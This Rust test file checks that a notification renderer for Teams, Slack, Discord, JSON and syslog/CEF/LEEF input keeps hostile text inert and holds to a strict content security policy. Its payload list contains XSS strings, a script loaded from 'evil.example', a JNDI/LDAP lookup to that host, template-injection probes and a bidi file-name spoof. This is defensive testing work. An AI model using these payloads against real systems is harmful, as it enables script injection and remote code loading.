//! Hostile strings in every place of every language.

use heraldry_looks::{POLICY, STYLE, STYLE_SOURCE, draw};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::golden::payloads;
use crate::page;

const STRINGS: &[&str] = &[
    "<script>alert(1)</script>",
    "</style></article></main><script src=//evil.example></script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "<svg onload=alert(1)><rect fill=\"x\">",
    "<!-- --><![CDATA[x]]><?x?>",
    "<div hx-get=\"/console\" hx-trigger=load>",
    "&lt;script&gt;&amp;#60;&#x3c;&lt",
    "javascript:alert(1)",
    "https://evil.example/\" onclick=\"alert(1)",
    "https://good.example@evil.example/",
    "[x](javascript:alert(1)) [y](https://evil.example/\"x) [z](data:text/html,<b>)",
    "<javascript:alert(1)|bank> <https://evil.example/\"><b>|bank> <!channel> <@U1>",
    "<!date^99999999999999999999^{time}|x> <!date^1^<b>{time}|\"x\"> <t:1:\"> <:a:1>",
    "<at><b>Everyone</b></at> <at>\"Everyone\"</at>",
    "```\n</pre><script>\n``` `</code>` **<b>** __\"__ ~~'~~ ||<||",
    "# <h1>\n> <q>\n- <li>\n1. <li>\n-# <small>",
    "\u{202e}gnp.exe\u{2066}\u{2069}\u{200f}\u{2028}",
    "\u{0}\u{1b}[31m\u{7f}\u{9b}\r\n\r",
    "${jndi:ldap://evil.example/a} {{DATE(1)}} {{7*7}}",
    "CEF:0|a|b|c|d|e|5|x=<b>",
    "<14>1 - - - - - [a b=\"<c>\"] <d>",
    "\u{fdd0}\u{ffff}\u{10ffff}\u{feff}",
];

/// Replaces each text that `is_chosen` lets pass by its number; returns how many there are.
fn replace(value: &mut Value, count: &mut usize, text: &str, is_chosen: &dyn Fn(usize) -> bool) {
    match value {
        Value::String(old) => {
            if is_chosen(*count) {
                text.clone_into(old);
            }
            *count += 1;
        }
        Value::Array(items) => items.iter_mut().for_each(|item| replace(item, count, text, is_chosen)),
        Value::Object(members) => {
            for (name, value) in members {
                // These make the language what it is.
                if !["type", "contentType"].contains(&name.as_str()) {
                    replace(value, count, text, is_chosen);
                }
            }
        }
        _ => {}
    }
}

#[test]
fn no_string_becomes_markup() {
    for format in ["teams", "slack", "discord", "json"] {
        let names = ["critical_finding.json", "engagement_completed.json", "scan-100.json"];
        for (name, content_type, body) in
            payloads(format).into_iter().filter(|(name, ..)| names.contains(&name.as_str()))
        {
            let golden: Value = serde_json::from_slice(&body).unwrap();
            for text in STRINGS {
                let mut body = golden.clone();
                replace(&mut body, &mut 0, text, &|_| true);
                page::parse(&draw(&content_type, body.to_string().as_bytes()));
            }
            if name == "scan-100.json" {
                continue;
            }
            let all = STRINGS.join(" ");
            let mut count = 0;
            replace(&mut golden.clone(), &mut count, "", &|_| false);
            for place in 0..count {
                let mut body = golden.clone();
                replace(&mut body, &mut 0, &all, &|n| n == place);
                page::parse(&draw(&content_type, body.to_string().as_bytes()));
            }
        }
    }
}

#[test]
fn no_line_becomes_markup() {
    for text in STRINGS {
        for line in [
            (*text).to_owned(),
            format!("CEF:0|{text}|{text}|1|{text}|{text}|5|msg={text} {text}={text}"),
            format!("LEEF:2.0|{text}|P|1|{text}|x09|{text}={text}\t{text}"),
            format!("<14>1 {text} h a p m [{text} {text}=\"{text}\"] {text}"),
            format!("<14>1 - h a p m - {text}"),
            format!("<14>Nov 17 10:12:45 host {text}: {text}"),
            format!("{} <14>1 - h a p m - {text}", text.len() + 18),
        ] {
            for content_type in ["text/plain", "text/html", "", text] {
                page::parse(&draw(content_type, line.as_bytes()));
            }
        }
    }
}

#[test]
fn undrawable_parts_are_shown_and_inert() {
    for text in STRINGS.iter().copied() {
        for body in [
            json!({"type": "AdaptiveCard", "body": [{"type": text, "x": text}], text: text, "actions": [{"type": text, "url": text}]}),
            json!({"blocks": [{"type": text, text: text}, {"type": "section", "text": {"type": text, "text": text}}], text: text}),
            json!({"embeds": [{text: text, "title": 5, "fields": [{text: text}]}], text: [text]}),
        ] {
            let drawing = draw("application/json", body.to_string().as_bytes());
            page::parse(&drawing);
            assert!(drawing.fragment.contains("Not drawn"), "{}", drawing.fragment);
        }
    }
}

#[test]
fn direction_and_control_characters_are_visible() {
    let body = json!({"text": "a\u{202e}b\u{0}c", "blocks": [{"type": "header", "text": {"type": "plain_text", "text": "\u{2067}"}}]});
    let text = page::everything(&draw("application/json", body.to_string().as_bytes()));
    assert!(text.contains("aU+202EbU+0000c") && text.contains("U+2067"), "{text}");
}

#[test]
fn the_policy_lets_this_style_in_and_nothing_else() {
    let hash = data_encoding::BASE64.encode(&Sha256::digest(STYLE.as_bytes()));
    assert_eq!(STYLE_SOURCE, format!("'sha256-{hash}'"));
    assert!(POLICY.starts_with(&format!("default-src 'none'; style-src {STYLE_SOURCE}; ")), "{POLICY}");
    for word in ["url(", "@import", "expression", "</", "position: fixed"] {
        assert!(!STYLE.contains(word), "{word} in the style");
    }
}
